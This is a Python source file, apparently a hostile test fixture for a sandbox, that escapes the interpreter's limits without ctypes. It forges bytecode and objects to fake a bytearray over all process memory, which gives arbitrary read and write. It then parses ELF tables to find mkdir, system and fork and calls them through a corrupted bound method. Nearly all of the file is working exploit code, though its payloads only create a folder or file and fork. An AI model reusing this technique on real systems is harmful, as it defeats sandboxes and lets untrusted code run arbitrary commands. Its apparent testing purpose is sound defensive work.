"""Calls functions of C without ctypes, by forged objects: makes a folder, runs a shell, forks.

Control: created, each turn.
"""

import os
import time

TURNS = 3

HEAD_OF_BYTES, HEAD_OF_TUPLE = 32, 24
kept = []


def word(number):
    return number.to_bytes(8, "little")


def forged(address, constants):
    """Return what lies where the address is kept, as a constant far past the constants."""

    def template():
        return 1234567

    at = (address - id(constants) - HEAD_OF_TUPLE) // 8
    load = bytearray()
    for shift in (24, 16, 8):
        load += bytes([144, at >> shift & 255])  # EXTENDED_ARG
    load += bytes([100, at & 255, 83, 0])  # LOAD_CONST, RETURN_VALUE
    code = template.__code__.replace(co_consts=constants, co_code=bytes(load))
    return type(template)(code, {})()


def all_memory():
    """Return a bytearray that starts at nothing and ends nowhere."""
    fake = word(1000) + word(id(bytearray)) + word(2**62) + word(2**62 + 1) + word(0) * 3
    pointers = [word(id(fake) + HEAD_OF_BYTES) * 2 for _ in range(5000)]
    constants = [(number,) for number in range(1000, 50_000)]
    kept.extend((fake, pointers, constants))
    return forged(max(map(id, pointers)) + HEAD_OF_BYTES, min(constants, key=id))


class Memory:
    def __init__(self):
        self.all = all_memory()

    def number(self, at, size=8):
        return int.from_bytes(self.all[at : at + size], "little")

    def text(self, at):
        return bytes(self.all[at : at + 40]).partition(b"\0")[0].decode("latin-1")

    def imports(self):
        """Return where the functions are that the interpreter imports from C, by their names."""
        inside = self.number(self.number(id(len) + 16) + 8)
        base = inside // 4096 * 4096
        while bytes(self.all[base : base + 4]) != b"\x7fELF":
            base -= 4096
        shift = 0 if self.number(base + 16, 2) == 2 else base
        heads, size, count = base + self.number(base + 32), 56, self.number(base + 56, 2)
        dynamic = next(
            shift + self.number(head + 16)
            for head in range(heads, heads + size * count, size)
            if self.number(head, 4) == 2
        )
        tags = {}
        while self.number(dynamic):
            tags[self.number(dynamic)] = self.number(dynamic + 8)
            dynamic += 16

        def place(tag):
            return tags[tag] if tags[tag] >= shift else shift + tags[tag]

        symbols, names, found = place(6), place(5), {}
        for table, length in ((23, 2), (7, 8)):  # calls, data
            if table not in tags:
                continue
            for at in range(place(table), place(table) + tags[length], 24):
                symbol = symbols + 24 * self.number(at + 12, 4)
                name = self.text(names + self.number(symbol, 4)) if symbol != symbols else ""
                if name in ("mkdir", "system", "fork"):
                    found[name] = self.number(shift + self.number(at))
        return found

    def call(self, function, first):
        """Call a function of C with a number or the address of a text."""
        method, name = [].clear, b"forged\0"
        no_arguments = 4
        fake = word(id(name) + HEAD_OF_BYTES) + word(function) + word(no_arguments) + word(0)
        kept.extend((method, name, fake, first))
        if isinstance(first, bytes):
            first = id(first) + HEAD_OF_BYTES
        self.all[id(method) + 16 : id(method) + 32] = word(id(fake) + HEAD_OF_BYTES) + word(first)
        try:
            method()
        except SystemError:  # it returned 0, which is no object and no error
            pass


class HostileManager:
    def attack(self, *, empty_folder, turn):
        memory, path = Memory(), (empty_folder + "/mine").encode()
        imports = memory.imports()
        if turn == 0:
            memory.call(imports["mkdir"], path + b"\0")
        elif turn == 1:
            memory.call(imports["system"], b": > '" + path + b"'\0")
        else:
            memory.call(imports["fork"], 0)
            # Only the child is here: the parent took the child's number for an object.
            try:
                os.mkdir(path)
            finally:
                time.sleep(4)
                os._exit(0)
